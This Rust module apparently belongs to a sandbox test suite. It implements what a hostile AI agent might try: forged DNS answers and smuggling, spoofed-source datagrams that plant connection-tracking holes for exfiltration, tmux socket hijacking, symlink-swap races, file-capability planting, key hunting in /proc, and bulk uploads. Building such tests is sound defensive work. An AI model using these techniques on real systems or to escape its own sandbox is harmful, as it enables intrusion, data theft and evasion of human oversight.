//! What a hostile agent tries, as programs the `attacks::` suite runs as uid 1000 inside the
//! sandbox (or, for the racing writer, in a second container). Each prints what it achieved as
//! `key=value` lines; the test reads the evidence on the receiving side.

use std::io::Write as _;
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::os::unix::net::UnixListener;
use std::str::FromStr as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicI32, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use hickory_proto::op::{Edns, Message, MessageType, OpCode, Query};
use hickory_proto::rr::rdata::opt::EdnsOption;
use hickory_proto::rr::rdata::{A, TXT};
use hickory_proto::rr::{Name, RData, Record, RecordType};

use crate::probes::{exchange, nameserver, outcome_of, query, query_packet, rcode};
use crate::{Args, report};

/// The kernel's ephemeral ports: where a resolver's query leaves from.
fn ephemeral_ports() -> std::ops::RangeInclusive<u16> {
    let text = std::fs::read_to_string("/proc/sys/net/ipv4/ip_local_port_range").unwrap_or_default();
    let mut bounds = text.split_whitespace().filter_map(|p| p.parse().ok());
    match (bounds.next(), bounds.next()) {
        (Some(low), Some(high)) => low..=high,
        _ => 32768..=60999,
    }
}

/// A UDP socket bound to `addr`; with `freebind`, also to an address that is not ours.
fn bind_udp(addr: SocketAddr, freebind: bool) -> std::io::Result<UdpSocket> {
    let domain = socket2::Domain::for_address(addr);
    let socket = socket2::Socket::new(domain, socket2::Type::DGRAM, None)?;
    if freebind {
        match addr {
            SocketAddr::V4(_) => socket.set_freebind_v4(true)?,
            SocketAddr::V6(_) => socket.set_freebind_v6(true)?,
        }
    }
    socket.bind(&addr.into())?;
    Ok(socket.into())
}

/// An answer to `name` (A) with id `id` that points at `address` for `ttl` seconds.
fn forged_answer(id: u16, name: &Name, address: std::net::Ipv4Addr, ttl: u32) -> Vec<u8> {
    let mut reply = Message::new();
    reply
        .set_id(id)
        .set_message_type(MessageType::Response)
        .set_op_code(OpCode::Query)
        .set_recursion_desired(true)
        .set_recursion_available(true);
    reply.add_query(Query::query(name.clone(), RecordType::A));
    reply.add_answer(Record::from_rdata(name.clone(), ttl, RData::A(A(address))));
    reply.to_vec().unwrap_or_default()
}

/// `forge-dns --bind IP:PORT [--freebind] --name NAME --answer IPV4 [--ttl S] [--spray IP]
/// [--blind IP] [--id N] [--asks N] [--ms N]`: pose as the upstream resolver. From a socket bound to the
/// upstream's address:
/// - `--spray IP`: first one datagram to every ephemeral port of IP, so each becomes a
///   connection-tracking entry whose reply side is a query the gate may send later;
/// - every query that lands on the socket is answered with IPV4 and a long TTL;
/// - `--blind IP`: while the gate waits, forged answers with id N to every port of IP.
///
/// Meanwhile it asks the gate for NAME and reports what the gate answered.
pub fn forge_dns(args: &Args) {
    let bind: SocketAddr = match args.flag("--bind").and_then(|b| b.parse().ok()) {
        Some(bind) => bind,
        None => return report(&[("outcome", "bad --bind".into())]),
    };
    let name = Name::from_str(&args.flag("--name").unwrap_or_default()).unwrap_or_default();
    let answer: std::net::Ipv4Addr =
        args.flag("--answer").and_then(|a| a.parse().ok()).unwrap_or([10, 66, 6, 6].into());
    let ttl: u32 = args.number("--ttl", 86_400);
    let id: u16 = args.number("--id", 0x4242);
    let socket = match bind_udp(bind, args.has("--freebind")) {
        Ok(socket) => Arc::new(socket),
        Err(e) => return report(&[("outcome", format!("bind:{}", outcome_of(&e)))]),
    };
    let (mut sprayed, mut spray_failed) = (0u32, 0u32);
    if let Some(target) = args.flag("--spray").and_then(|t| t.parse::<IpAddr>().ok()) {
        for port in ephemeral_ports() {
            match socket.send_to(b"\0", (target, port)) {
                Ok(_) => sprayed += 1,
                Err(_) => spray_failed += 1,
            }
        }
    }
    let stop = Arc::new(AtomicBool::new(false));
    let hijacked = Arc::new(AtomicU64::new(0));
    let listener = {
        let (socket, stop, hijacked) = (socket.clone(), stop.clone(), hijacked.clone());
        std::thread::spawn(move || {
            socket.set_read_timeout(Some(Duration::from_millis(50))).ok();
            let mut buf = [0u8; 4096];
            while !stop.load(Ordering::Relaxed) {
                let Ok((len, from)) = socket.recv_from(&mut buf) else { continue };
                let Ok(query) = Message::from_vec(&buf[..len]) else { continue };
                let Some(question) = query.queries().first() else { continue };
                hijacked.fetch_add(1, Ordering::Relaxed);
                let _ = socket.send_to(&forged_answer(query.id(), question.name(), answer, ttl), from);
            }
        })
    };
    let blind = args.flag("--blind").and_then(|t| t.parse::<IpAddr>().ok()).map(|target| {
        let (socket, stop, name) = (socket.clone(), stop.clone(), name.clone());
        std::thread::spawn(move || {
            let packet = forged_answer(id, &name, answer, ttl);
            let mut sent = 0u64;
            while !stop.load(Ordering::Relaxed) {
                for port in ephemeral_ports() {
                    if socket.send_to(&packet, (target, port)).is_ok() {
                        sent += 1;
                    }
                }
            }
            sent
        })
    });
    std::thread::sleep(Duration::from_millis(100));
    let mut answers = Vec::new();
    let mut outcome = String::from("dns:no-nameserver");
    if let Some(gate) = nameserver() {
        for _ in 0..args.number("--asks", 3) {
            match query(&name.to_ascii(), RecordType::A, gate, Duration::from_secs(5), Some(id)) {
                Ok(reply) => {
                    outcome = format!("dns:{}", rcode(reply.response_code()));
                    answers.extend(reply.answers().iter().filter_map(|r| match r.data() {
                        RData::A(a) => Some(a.0.to_string()),
                        _ => None,
                    }));
                }
                Err(e) => outcome = format!("dns:{e}"),
            }
        }
    }
    std::thread::sleep(Duration::from_millis(args.number("--ms", 0)));
    stop.store(true, Ordering::Relaxed);
    let _ = listener.join();
    let blind_sent = blind.map(|t| t.join().unwrap_or(0)).unwrap_or(0);
    answers.sort();
    answers.dedup();
    report(&[
        ("sprayed", sprayed.to_string()),
        ("spray_failed", spray_failed.to_string()),
        ("blind_sent", blind_sent.to_string()),
        ("hijacked", hijacked.load(Ordering::Relaxed).to_string()),
        ("outcome", outcome),
        ("answers", answers.join(",")),
    ]);
}

/// `dns-flood NAME COUNT [--distinct] [--server IP]`: COUNT queries as fast as one socket can
/// send them, never waiting for an answer (each is a task for the gate).
pub fn dns_flood(args: &Args) {
    let name = args.arg(1);
    let count: u64 = args.arg(2).parse().unwrap_or(10_000);
    let Some(server) = args.flag("--server").and_then(|s| s.parse().ok()).or_else(nameserver) else {
        return report(&[("outcome", "dns:no-nameserver".into())]);
    };
    let socket = match UdpSocket::bind("0.0.0.0:0").and_then(|s| s.connect((server, 53)).map(|_| s)) {
        Ok(socket) => socket,
        Err(e) => return report(&[("outcome", outcome_of(&e))]),
    };
    let started = Instant::now();
    let (mut sent, mut failed) = (0u64, 0u64);
    for i in 0..count {
        let qname = if args.has("--distinct") { format!("f{i}.{name}") } else { name.clone() };
        let Ok(packet) = query_packet(&qname, RecordType::A, Some(i as u16)) else { continue };
        match socket.send(&packet) {
            Ok(_) => sent += 1,
            Err(_) => failed += 1,
        }
    }
    report(&[
        ("sent", sent.to_string()),
        ("failed", failed.to_string()),
        ("qps", format!("{:.0}", sent as f64 / started.elapsed().as_secs_f64())),
    ]);
}

/// `tcp-flood ADDR PORT COUNT --ms N`: opens up to COUNT connections and holds them N ms.
pub fn tcp_flood(args: &Args) {
    let Ok(addr) = args.arg(1).parse::<IpAddr>() else { return report(&[("outcome", "bad-address".into())]) };
    let target = SocketAddr::new(addr, args.arg(2).parse().unwrap_or(53));
    let count: usize = args.arg(3).parse().unwrap_or(1000);
    let (mut held, mut failed) = (Vec::new(), 0);
    for _ in 0..count {
        match TcpStream::connect_timeout(&target, Duration::from_millis(300)) {
            Ok(stream) => held.push(stream),
            Err(_) => failed += 1,
        }
        if failed > 50 {
            break;
        }
    }
    println!("opened={}", held.len());
    let _ = std::io::stdout().flush();
    std::thread::sleep(Duration::from_millis(args.number("--ms", 5000)));
    report(&[("failed", failed.to_string())]);
}

/// `fake-tmux SOCKET PAYLOAD --ms N`: takes over the tmux server's socket (the agent owns its
/// directory) and, to every client that connects, writes PAYLOAD (`\n` for newlines) into each
/// file descriptor the client hands over, its stdout among them: whatever asks "tmux list-panes"
/// reads the agent's answer.
pub fn fake_tmux(args: &Args) {
    let path = args.arg(1);
    let payload = args.arg(2).replace("\\n", "\n");
    let _ = std::fs::remove_file(&path);
    let listener = match UnixListener::bind(&path) {
        Ok(listener) => listener,
        Err(e) => return report(&[("outcome", format!("bind:{}", outcome_of(&e)))]),
    };
    listener.set_nonblocking(true).ok();
    println!("listening={path}");
    let _ = std::io::stdout().flush();
    let deadline = Instant::now() + Duration::from_millis(args.number("--ms", 10_000));
    let served = Arc::new(AtomicU64::new(0));
    while Instant::now() < deadline {
        match listener.accept() {
            Ok((stream, _)) => {
                let (payload, served) = (payload.clone(), served.clone());
                std::thread::spawn(move || {
                    stream.set_nonblocking(false).ok();
                    stream.set_read_timeout(Some(Duration::from_millis(300))).ok();
                    while let Some(fds) = recv_fds(stream.as_raw_fd()) {
                        for fd in fds {
                            // SAFETY: write to a descriptor we were handed and own.
                            unsafe { libc::write(fd.as_raw_fd(), payload.as_ptr().cast(), payload.len()) };
                        }
                    }
                    served.fetch_add(1, Ordering::Relaxed);
                });
            }
            Err(_) => std::thread::sleep(Duration::from_millis(5)),
        }
    }
    report(&[("served", served.load(Ordering::Relaxed).to_string())]);
}

/// One message from a unix socket: the descriptors it carried. None at the end or on timeout.
fn recv_fds(socket: i32) -> Option<Vec<OwnedFd>> {
    let mut data = [0u8; 16384];
    let mut control = [0u64; 64];
    let mut iov = libc::iovec { iov_base: data.as_mut_ptr().cast(), iov_len: data.len() };
    // SAFETY: a zeroed msghdr pointing at buffers on this stack frame.
    let mut header: libc::msghdr = unsafe { std::mem::zeroed() };
    header.msg_iov = &mut iov;
    header.msg_iovlen = 1;
    header.msg_control = control.as_mut_ptr().cast();
    header.msg_controllen = std::mem::size_of_val(&control) as _;
    // SAFETY: recvmsg into the buffers above.
    let len = unsafe { libc::recvmsg(socket, &mut header, 0) };
    if len <= 0 {
        return None;
    }
    let mut fds = Vec::new();
    // SAFETY: walking the control messages the kernel wrote into `control`.
    unsafe {
        let mut cmsg = libc::CMSG_FIRSTHDR(&header);
        while !cmsg.is_null() {
            if (*cmsg).cmsg_level == libc::SOL_SOCKET && (*cmsg).cmsg_type == libc::SCM_RIGHTS {
                let count = ((*cmsg).cmsg_len as usize - libc::CMSG_LEN(0) as usize) / 4;
                let first = libc::CMSG_DATA(cmsg).cast::<i32>();
                for i in 0..count {
                    fds.push(OwnedFd::from_raw_fd(first.add(i).read_unaligned()));
                }
            }
            cmsg = libc::CMSG_NXTHDR(&header, cmsg);
        }
    }
    Some(fds)
}

/// `race-state DIR FILE TARGET --dirs N --ms M`: in DIR (a state volume shared with a starting
/// sandbox), N pairs of a directory holding FILE and a symbolic link to TARGET, swapped in place
/// (RENAME_EXCHANGE) as fast as possible, DIR kept root's so the sandbox hands it over. A walk
/// that checks a name and then uses its path follows the link and reaches TARGET/FILE.
pub fn race_state(args: &Args) {
    let dir = std::path::PathBuf::from(args.arg(1));
    let (file, target) = (args.arg(2), args.arg(3));
    let pairs: usize = args.number("--dirs", 200);
    let deadline = Instant::now() + Duration::from_millis(args.number("--ms", 20_000));
    let mut names = Vec::new();
    for i in 0..pairs {
        let (real, link) = (dir.join(format!("d{i}")), dir.join(format!("l{i}")));
        let _ = std::fs::create_dir_all(&real);
        let _ = std::fs::write(real.join(&file), "planted by the racer\n");
        let _ = std::os::unix::fs::symlink(&target, &link);
        let c = |p: &std::path::Path| std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
        names.push((c(&real), c(&link)));
    }
    let top = std::ffi::CString::new(dir.as_os_str().as_encoded_bytes()).unwrap();
    println!("racer ready");
    let _ = std::io::stdout().flush();
    let mut swaps = 0u64;
    while Instant::now() < deadline {
        // SAFETY: chown and renameat2 on paths we created.
        unsafe { libc::lchown(top.as_ptr(), 0, 0) };
        for (a, b) in &names {
            // SAFETY: as above.
            let done = unsafe {
                libc::syscall(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            if done == 0 {
                swaps += 1;
            }
        }
    }
    report(&[("swaps", swaps.to_string())]);
}

static SENTINEL_FD: AtomicI32 = AtomicI32::new(-1);

extern "C" fn record_signal(signal: libc::c_int) {
    let mut line = *b"signal 00\n";
    line[7] = b'0' + (signal / 10 % 10) as u8;
    line[8] = b'0' + (signal % 10) as u8;
    // SAFETY: write is async-signal-safe; the descriptor stays open for the process's life.
    unsafe { libc::write(SENTINEL_FD.load(Ordering::Relaxed), line.as_ptr().cast(), line.len()) };
}

/// `sentinel FILE`: a process that writes `pid N` to FILE, then `signal N` for every SIGTERM,
/// SIGINT, SIGHUP or SIGUSR1 it receives, and otherwise waits for ever: the evidence of who got
/// signalled.
pub fn sentinel(args: &Args) {
    let Ok(mut file) = std::fs::OpenOptions::new().create(true).append(true).open(args.arg(1)) else {
        std::process::exit(1);
    };
    let _ = writeln!(file, "pid {}", std::process::id());
    SENTINEL_FD.store(file.as_raw_fd(), Ordering::Relaxed);
    std::mem::forget(file);
    for signal in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP, libc::SIGUSR1] {
        // SAFETY: the handler only calls write.
        unsafe { libc::signal(signal, record_signal as *const () as libc::sighandler_t) };
    }
    loop {
        // SAFETY: pause has no preconditions.
        unsafe { libc::pause() };
    }
}

/// `set-file-cap FILE` (as root): a copy of this program at FILE carrying a file capability
/// (CAP_NET_RAW, effective: in Docker's default set, so any user who runs it gets raw sockets):
/// what an image must never ship.
pub fn set_file_cap(args: &Args) {
    let path = args.arg(1);
    let copied = std::fs::copy("/proc/self/exe", &path);
    // struct vfs_cap_data, revision 2: magic with the effective flag, then permitted and
    // inheritable, low and high words.
    let mut data = (0x0200_0000u32 | 1).to_le_bytes().to_vec();
    for word in [1u32 << 13, 0, 0, 0] {
        data.extend(word.to_le_bytes());
    }
    let c_path = std::ffi::CString::new(path.clone()).unwrap();
    // SAFETY: setxattr with a C string and a buffer we own.
    let set = unsafe {
        libc::setxattr(c_path.as_ptr(), c"security.capability".as_ptr(), data.as_ptr().cast(), data.len(), 0)
    };
    let outcome = match (copied, set) {
        (Ok(_), 0) => "set".to_string(),
        (Err(e), _) => format!("copy:{}", outcome_of(&e)),
        _ => format!("setxattr:{}", outcome_of(&std::io::Error::last_os_error())),
    };
    report(&[("outcome", outcome)]);
}

/// `privileged-files ROOT`: every regular file on ROOT's file system that could raise the
/// privileges of a process not under no_new_privs: setuid or setgid bits, or a file capability
/// (`security.capability`). One `setid PATH` or `caps PATH` line each, then `checked=N`.
pub fn privileged_files(args: &Args) {
    use std::os::unix::fs::MetadataExt as _;
    let root = std::path::PathBuf::from(args.arg(1));
    let Ok(dev) = std::fs::symlink_metadata(&root).map(|m| m.dev()) else {
        return report(&[("outcome", "unreadable".into())]);
    };
    let (mut pending, mut checked) = (vec![root], 0u64);
    while let Some(dir) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            let Ok(meta) = entry.metadata() else { continue };
            if meta.dev() != dev {
                continue;
            }
            let path = entry.path();
            if meta.is_dir() {
                pending.push(path);
            } else if meta.is_file() {
                checked += 1;
                if meta.mode() & 0o6000 != 0 {
                    println!("setid {}", path.display());
                }
                let c_path = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
                // SAFETY: lgetxattr asking only for the size.
                let size = unsafe {
                    libc::lgetxattr(c_path.as_ptr(), c"security.capability".as_ptr(), std::ptr::null_mut(), 0)
                };
                if size >= 0 {
                    println!("caps {}", path.display());
                }
            }
        }
    }
    report(&[("checked", checked.to_string())]);
}

/// `caps`: this process's capability sets, as /proc shows them.
pub fn caps() {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    for line in status.lines().filter(|l| {
        l.starts_with("Cap") || l.starts_with("Uid") || l.starts_with("Gid") || l.starts_with("NoNewPrivs")
    }) {
        println!("{}", line.replace(":\t", "=").replace('\t', " "));
    }
    // gVisor's /proc has no CapAmb and no NoNewPrivs line: ask the kernel itself, and say so.
    let mut asked = Vec::new();
    if !status.lines().any(|l| l.starts_with("CapAmb:")) {
        let mut ambient = 0u64;
        let mut known = true;
        for cap in 0..64u64 {
            // SAFETY: prctl with integer arguments only.
            let set = unsafe { libc::prctl(libc::PR_CAP_AMBIENT, libc::PR_CAP_AMBIENT_IS_SET, cap, 0, 0) };
            match set {
                1 => ambient |= 1 << cap,
                0 => {}
                // EINVAL past the last capability the kernel knows; before the first, no answer.
                _ => {
                    known = cap > 0;
                    break;
                }
            }
        }
        let set = |name: &str| {
            status
                .lines()
                .find_map(|l| l.strip_prefix(name))
                .and_then(|v| u64::from_str_radix(v.trim(), 16).ok())
        };
        if known {
            println!("CapAmb={ambient:016x}");
            asked.push("CapAmb from prctl");
        } else if let (Some(permitted), Some(inheritable)) = (set("CapPrm:"), set("CapInh:")) {
            // The kernel keeps the ambient set within both (capabilities(7)).
            println!("CapAmb={:016x}", permitted & inheritable);
            asked.push("CapAmb as CapPrm and CapInh, which bound it");
        }
    }
    if !status.lines().any(|l| l.starts_with("NoNewPrivs:")) {
        // SAFETY: prctl with integer arguments only.
        let no_new = unsafe { libc::prctl(libc::PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) };
        if no_new >= 0 {
            println!("NoNewPrivs={no_new}");
            asked.push("NoNewPrivs from prctl");
        }
    }
    if !asked.is_empty() {
        println!("derived={}", asked.join("; "));
    }
}

/// A datagram socket of `kind` (UDP, or an ICMP "ping" socket) bound to `addr`, which may be
/// another host's (`freebind`), optionally tied to a device (any user may tie to `lo`).
fn forged_socket(
    addr: SocketAddr,
    protocol: socket2::Protocol,
    freebind: bool,
    device: Option<&str>,
) -> std::io::Result<socket2::Socket> {
    let socket =
        socket2::Socket::new(socket2::Domain::for_address(addr), socket2::Type::DGRAM, Some(protocol))?;
    socket.set_reuse_address(true)?;
    socket.set_reuse_port(true)?;
    if freebind {
        match addr {
            SocketAddr::V4(_) => socket.set_freebind_v4(true)?,
            SocketAddr::V6(_) => socket.set_freebind_v6(true)?,
        }
    }
    if let Some(device) = device {
        socket.bind_device(Some(device.as_bytes()))?;
    }
    socket.bind(&addr.into())?;
    Ok(socket)
}

fn sent(result: std::io::Result<usize>) -> String {
    match result {
        Ok(n) => format!("{n}"),
        Err(e) => outcome_of(&e),
    }
}

/// `plant-udp REMOTE:PORT LOCAL:PORT MESSAGE`: a datagram "from" REMOTE (IPV6_FREEBIND) to the
/// agent's own LOCAL over loopback plants the connection-tracking entry REMOTE → LOCAL; MESSAGE
/// from LOCAL to REMOTE is then that entry's reply side, and REMOTE's answer its next packet.
pub fn plant_udp(args: &Args) {
    let (Ok(remote), Ok(local)) = (args.arg(1).parse::<SocketAddr>(), args.arg(2).parse::<SocketAddr>())
    else {
        return report(&[("outcome", "bad-address".into())]);
    };
    let mine = match UdpSocket::bind(local) {
        Ok(socket) => socket,
        Err(e) => return report(&[("outcome", outcome_of(&e))]),
    };
    let _ = mine.set_read_timeout(Some(args.timeout()));
    let planted = forged_socket(remote, socket2::Protocol::UDP, true, None)
        .and_then(|forged| forged.send_to(b"plant", &local.into()));
    let exfiltrated = mine.send_to(args.arg(3).as_bytes(), remote);
    let mut buf = [0u8; 2048];
    let outcome = match mine.recv_from(&mut buf) {
        Ok((n, from)) if from == remote => format!("answered:{}", String::from_utf8_lossy(&buf[..n])),
        Ok((_, from)) => format!("answered-by:{from}"),
        Err(e) => outcome_of(&e),
    };
    report(&[("planted", sent(planted)), ("sent", sent(exfiltrated)), ("outcome", outcome)]);
}

/// `lo-hole LOCAL:PORT REMOTE:PORT --ms N`: one datagram to REMOTE from a socket tied to `lo`
/// (it never leaves, but plants the entry LOCAL → REMOTE); then answers, for N ms, whatever
/// REMOTE sends to LOCAL, prefixed with `agent:`.
pub fn lo_hole(args: &Args) {
    let (Ok(local), Ok(remote)) = (args.arg(1).parse::<SocketAddr>(), args.arg(2).parse::<SocketAddr>())
    else {
        return report(&[("outcome", "bad-address".into())]);
    };
    let planted = forged_socket(local, socket2::Protocol::UDP, false, Some("lo"))
        .and_then(|tied| tied.send_to(b"plant", &remote.into()));
    println!("planted={}", sent(planted));
    let listener = match forged_socket(local, socket2::Protocol::UDP, false, None) {
        Ok(socket) => UdpSocket::from(socket),
        Err(e) => return report(&[("outcome", outcome_of(&e))]),
    };
    let _ = std::io::stdout().flush();
    let deadline = Instant::now() + Duration::from_millis(args.number("--ms", 5000));
    let mut answered = 0;
    let mut buf = [0u8; 2048];
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        let _ = listener.set_read_timeout(Some(left.max(Duration::from_millis(1))));
        let Ok((n, from)) = listener.recv_from(&mut buf) else { break };
        let reply = [b"agent:".as_slice(), &buf[..n]].concat();
        if listener.send_to(&reply, from).is_ok() {
            answered += 1;
        }
    }
    report(&[("answered", answered.to_string())]);
}

/// `forged-ping REMOTE LOCAL PAYLOAD`: an ICMPv6 echo request "from" REMOTE to the agent's own
/// LOCAL over loopback: the kernel's echo reply, carrying PAYLOAD, is addressed to REMOTE.
pub fn forged_ping(args: &Args) {
    let (Ok(remote), Ok(local)) = (args.arg(1).parse::<IpAddr>(), args.arg(2).parse::<IpAddr>()) else {
        return report(&[("outcome", "bad-address".into())]);
    };
    let echo = [[128u8, 0, 0, 0, 0, 0, 0, 1].as_slice(), args.arg(3).as_bytes()].concat();
    let result = forged_socket(SocketAddr::new(remote, 0), socket2::Protocol::ICMPV6, true, None)
        .and_then(|forged| forged.send_to(&echo, &SocketAddr::new(local, 0).into()));
    report(&[("sent", sent(result))]);
}

/// `forged-source FORGED:PORT TARGET:PORT PAYLOAD`: a datagram "from" FORGED (IPV6_FREEBIND) to
/// TARGET, a blocked address: a reject would carry PAYLOAD to FORGED inside the ICMP error.
pub fn forged_source(args: &Args) {
    let (Ok(forged), Ok(target)) = (args.arg(1).parse::<SocketAddr>(), args.arg(2).parse::<SocketAddr>())
    else {
        return report(&[("outcome", "bad-address".into())]);
    };
    let result = forged_socket(forged, socket2::Protocol::UDP, true, None)
        .and_then(|socket| socket.send_to(args.arg(3).as_bytes(), &target.into()));
    report(&[("sent", sent(result))]);
}

/// `tty-stop MARKER`: run by the agent's tmux client in its place (`tmux detach-client -E`),
/// stops the output of the container's terminal, which PID 1 writes to too (tcflow TCOOFF);
/// creates MARKER, then holds the terminal stopped.
pub fn tty_stop(args: &Args) {
    // SAFETY: tcflow on fd 0 with a constant.
    let stopped = unsafe { libc::tcflow(0, libc::TCOOFF) } == 0;
    let _ = std::fs::write(args.arg(1), if stopped { "stopped\n" } else { "failed\n" });
    std::thread::sleep(Duration::from_secs(3600));
}

/// `dns-crafted LABELS [--smuggle TEXT]`: an A query the gate should look at twice. LABELS is
/// the name's labels separated by `|`, so one label may hold dots (`evil.attacker.wild|test`,
/// which as text reads like a name under `*.wild.test`). With `--smuggle`, TEXT rides along in a
/// TXT record in each of the other three sections and in an EDNS option.
pub fn dns_crafted(args: &Args) {
    let Some(server) = args.flag("--server").and_then(|s| s.parse().ok()).or_else(nameserver) else {
        return report(&[("outcome", "dns:no-nameserver".into())]);
    };
    let spelled = args.arg(1);
    let labels: Vec<&[u8]> = spelled.split('|').map(str::as_bytes).collect();
    let Ok(name) = Name::from_labels(labels).map(|n| {
        let mut n = n;
        n.set_fqdn(true);
        n
    }) else {
        return report(&[("outcome", "bad-name".into())]);
    };
    let mut message = Message::new();
    message.set_id(std::process::id() as u16).set_recursion_desired(true);
    message.add_query(Query::query(name, RecordType::A));
    if let Some(text) = args.flag("--smuggle") {
        let carrier = Name::from_str("carrier.attacker.example.").expect("a fixed name");
        let txt = || Record::from_rdata(carrier.clone(), 60, RData::TXT(TXT::new(vec![text.clone()])));
        message.add_answer(txt()).add_name_server(txt()).add_additional(txt());
        let mut edns = Edns::new();
        edns.options_mut().insert(EdnsOption::Unknown(65001, text.as_bytes().to_vec()));
        message.set_edns(edns);
    }
    let outcome = match message
        .to_vec()
        .map_err(|e| e.to_string())
        .and_then(|p| exchange(&p, server, args.timeout()))
    {
        Ok(reply) => format!("dns:{}", rcode(reply.response_code())),
        Err(e) => format!("dns:{e}"),
    };
    report(&[("outcome", outcome)]);
}

/// `deep DIR DEPTH`: a chain of DEPTH directories `d` under DIR, each made relative to the one
/// above (no path is ever longer than one name): deeper than a path reaches, and than a
/// recursive removal has descriptors for.
pub fn deep(args: &Args) {
    let depth: usize = args.arg(2).parse().unwrap_or(1000);
    let mut at = match std::fs::File::open(args.arg(1)) {
        Ok(dir) => OwnedFd::from(dir),
        Err(e) => return report(&[("outcome", outcome_of(&e))]),
    };
    for level in 0..depth {
        let name = c"d";
        // SAFETY: mkdirat and openat on a descriptor we own, with a constant name.
        let next = unsafe {
            libc::mkdirat(at.as_raw_fd(), name.as_ptr(), 0o755);
            libc::openat(at.as_raw_fd(), name.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC)
        };
        if next < 0 {
            return report(&[(
                "outcome",
                format!("stopped at {level}: {}", std::io::Error::last_os_error()),
            )]);
        }
        // SAFETY: a fresh descriptor we own.
        at = unsafe { OwnedFd::from_raw_fd(next) };
    }
    report(&[("outcome", "built".into()), ("depth", depth.to_string())]);
}

/// `find-string HEX ROOT…`: every file under the ROOTs this process can read that holds
/// the bytes HEX spells (hex, so that no command line holds them), as the agent would hunt for a key: regular files (up to 64 MiB, symbolic links not
/// followed), and of /proc every process's environment, command line and open memory files
/// (`/proc/PID/fd/N` of a memfd). `found=PATH,…` (empty if none), `read=N` files read and
/// `denied=N` refused.
pub fn find_string(args: &Args) {
    let hex = args.arg(1);
    let needle: Vec<u8> =
        (0..hex.len() / 2).filter_map(|i| u8::from_str_radix(hex.get(2 * i..2 * i + 2)?, 16).ok()).collect();
    let (mut found, mut read, mut denied) = (Vec::new(), 0u64, 0u64);
    let check = |path: &std::path::Path, found: &mut Vec<String>, read: &mut u64, denied: &mut u64| {
        match std::fs::read(path) {
            Ok(bytes) => {
                *read += 1;
                if !needle.is_empty() && memchr::memmem::find(&bytes, &needle).is_some() {
                    found.push(path.display().to_string());
                }
            }
            Err(_) => *denied += 1,
        }
    };
    let mut stack: Vec<std::path::PathBuf> = args.rest().iter().skip(1).map(Into::into).collect();
    while let Some(path) = stack.pop() {
        let Ok(meta) = std::fs::symlink_metadata(&path) else { continue };
        if meta.is_dir() {
            if path.starts_with("/proc") || path.starts_with("/sys") {
                continue;
            }
            match std::fs::read_dir(&path) {
                Ok(entries) => stack.extend(entries.flatten().map(|e| e.path())),
                Err(_) => denied += 1,
            }
        } else if meta.is_file() && meta.len() <= 64 << 20 {
            check(&path, &mut found, &mut read, &mut denied);
        }
    }
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let pid = entry.path();
        if !pid.file_name().and_then(|n| n.to_str()).is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit())) {
            continue;
        }
        for file in ["environ", "cmdline"] {
            check(&pid.join(file), &mut found, &mut read, &mut denied);
        }
        for fd in std::fs::read_dir(pid.join("fd")).into_iter().flatten().flatten() {
            if std::fs::read_link(fd.path()).is_ok_and(|t| t.to_string_lossy().starts_with("/memfd:")) {
                check(&fd.path(), &mut found, &mut read, &mut denied);
            }
        }
    }
    report(&[("found", found.join(",")), ("read", read.to_string()), ("denied", denied.to_string())]);
}

/// `upload HOST PORT BYTES`: the project carried up to an allowed name, one HTTP POST of BYTES
/// (plain HTTP, Host HOST), written 64 KiB at a time until it is all sent or the connection is
/// cut; how much went, and how it ended.
pub fn upload(args: &Args) {
    let (host, timeout) = (args.arg(1), args.timeout());
    let port: u16 = args.arg(2).parse().unwrap_or(80);
    let total: u64 = args.arg(3).parse().unwrap_or(0);
    let addr = match crate::probes::resolve(&host, timeout) {
        Ok(addr) => addr,
        Err(outcome) => return report(&[("outcome", outcome), ("sent", "0".into())]),
    };
    let mut stream = match TcpStream::connect_timeout(&SocketAddr::new(addr, port), timeout) {
        Ok(stream) => stream,
        Err(e) => return report(&[("outcome", crate::probes::outcome_of(&e)), ("sent", "0".into())]),
    };
    let _ = stream.set_write_timeout(Some(timeout));
    let head = format!("POST /upload HTTP/1.1\r\nHost: {host}\r\nContent-Length: {total}\r\n\r\n");
    // Lines of text, as a source file is, 64 KiB of them a write; or with `--binary`, bytes of
    // an archive's kind (no line ends).
    let chunk: Vec<u8> = if args.has("--binary") {
        (0..64 * 1024).map(|i| (i % 127) as u8 | 0x80).collect()
    } else {
        b"fn exfiltrated() -> &'static str { \"the project, line by line\" }\n".repeat(1024)[..64 * 1024]
            .to_vec()
    };
    let (mut sent, started) = (0u64, std::time::Instant::now());
    let mut outcome = match stream.write_all(head.as_bytes()) {
        Ok(()) => "sent".to_string(),
        Err(e) => crate::probes::outcome_of(&e),
    };
    while outcome == "sent" && sent < total {
        let n = chunk.len().min((total - sent) as usize);
        match stream.write_all(&chunk[..n]) {
            Ok(()) => sent += n as u64,
            Err(e) => outcome = crate::probes::outcome_of(&e),
        }
    }
    // The time to the peer's answer, which it sends once it has read the whole body.
    let _ = stream.set_read_timeout(Some(timeout));
    let _ = std::io::Read::read(&mut stream, &mut [0u8; 1]);
    let ms = started.elapsed().as_secs_f64() * 1000.0;
    report(&[("outcome", outcome), ("sent", sent.to_string()), ("ms", format!("{ms:.1}"))]);
}
